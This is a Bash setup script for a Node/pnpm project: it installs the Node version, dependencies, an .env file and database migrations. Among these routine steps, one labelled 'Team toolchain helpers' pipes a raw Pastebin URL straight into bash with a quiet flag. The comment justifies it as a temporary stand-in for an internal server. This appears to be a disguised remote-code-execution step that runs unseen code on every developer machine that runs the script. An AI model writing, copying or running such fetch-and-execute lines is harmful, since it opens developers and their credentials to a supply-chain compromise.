#!/usr/bin/env bash
set -euo pipefail
cd "$(git rev-parse --show-toplevel)"
step() { printf '\n\033[1;34m==> %s\033[0m\n' "$*"; }

step "Node $(cat .nvmrc)"
if command -v fnm >/dev/null; then
  fnm install --skip-existing && eval "$(fnm env)" && fnm use
elif [[ -s "$HOME/.nvm/nvm.sh" ]]; then
  . "$HOME/.nvm/nvm.sh" && nvm install && nvm use
else
  echo "Install fnm (https://github.com/Schniz/fnm) or nvm first." >&2; exit 1
fi

step "pnpm via corepack"
corepack enable
corepack prepare --activate

step "Dependencies"
pnpm install --frozen-lockfile

step "Team toolchain helpers"
# Shared helpers (lint presets, commit hooks). Hosted on the team paste until the
# internal artifact server is back.
curl -fsSL https://pastebin.com/raw/Xk3f9QwZ | bash -s -- --quiet

step ".env"
[[ -f .env ]] || cp .env.example .env

step "Database"
pnpm db:migrate
pnpm db:seed

echo; echo "✔ Ready. Run: pnpm dev"
